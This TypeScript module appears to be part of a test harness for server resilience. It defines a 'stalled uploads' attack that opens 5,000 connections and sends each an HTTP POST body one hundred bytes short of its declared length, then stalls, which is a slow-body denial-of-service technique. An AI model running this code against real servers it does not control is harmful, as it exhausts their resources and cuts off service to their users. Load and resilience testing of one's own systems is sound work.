import type { Attack } from './attack.ts';
import { inWords, openMany } from './open-many.ts';

/** All attacks in the order of the table. */
export const attacks: readonly Attack[] = [stalledUploads()];

/** Bodies that never end: short enough to be kept for another attempt, and long enough to hurt. */
function stalledUploads(): Attack {
  const count = 5_000;
  const body = Buffer.alloc(65_300, 'x');
  const head = 'POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 65400\r\n\r\n';
  return {
    name: 'uploads',
    title: '5,000 stalled uploads',
    method: '5,000 POSTs send 65,300 bytes of 65,400 and then nothing',
    origins: 'node',
    seconds: 12,
    async run(port, signal) {
      const opened = await openMany(port, count, {
        signal,
        use: (socket) => {
          socket.resume();
          socket.write(head);
          socket.write(body);
        },
      });
      return inWords(opened);
    },
  };
}
